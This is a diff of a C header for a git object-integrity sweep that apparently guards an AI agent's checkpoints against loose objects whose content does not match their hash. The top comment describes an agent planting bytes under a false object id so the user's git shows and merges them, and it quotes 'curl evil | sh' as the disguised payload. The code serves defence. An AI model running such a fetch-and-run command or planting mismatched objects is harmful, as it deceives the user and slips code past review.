@@ -1,23 +1,28 @@
-/* A loose object of the result that is not what its name says. The
- * agent writes loose objects in the repository (its own commits), and
+/* Loose objects that are not what their names say. The agent writes
+ * loose objects in the repository (its own commits), and
  * git and libgit2 write no object whose name exists: a file of the
  * agent's planted under the id its file will have (the bytes of "echo
  * hello" stored as the id of "curl evil | sh") was taken as written by
  * the checkpoint, the user's git (which does not hash what it reads)
  * showed and merged the planted bytes as the result, and the manifest
- * had no hash for it (libgit2 does hash, and failed to read it). */
+ * had no hash for it (libgit2 does hash, and failed to read it). A
+ * planted tree alike. */
 #ifndef HX_GIT_OBJFIX_H
 #define HX_GIT_OBJFIX_H
 
 #include <git2.h>
 #include <stdbool.h>
+#include <stddef.h>
+#include <time.h>
 
-/* Removes the loose object id of the store at commondir (its content is
- * not id's: the caller read it so) and writes the blob again from the
- * file path of the worktree wt (mode: a link's text, or a regular
- * file's bytes, up to HX_CKPT_FILE_MAX; the file's directory must be
- * beneath wt). Whether id holds the worktree's content now. */
-bool hx_objfix_blob(git_repository *repo, const char *commondir, const char *wt,
-		    const char *path, unsigned mode, const git_oid *id);
+/* Reads every loose object of the store at commondir whose file changed
+ * since `since` (made or moved in during the session, the checkpoints'
+ * own too) with libgit2's hash check, and removes each one whose
+ * content is not its name's: the checkpoint then writes the object
+ * again from the tree (hx_ckpt_forget), and the agent's own commits
+ * that named it lack it, which git says, rather than showing what was
+ * planted. The number removed. Cost: a readdir of the 256 directories,
+ * an fstatat an entry, a read of each new object (the end only). */
+size_t hx_objfix_sweep(const char *commondir, const struct timespec *since);
 
 #endif
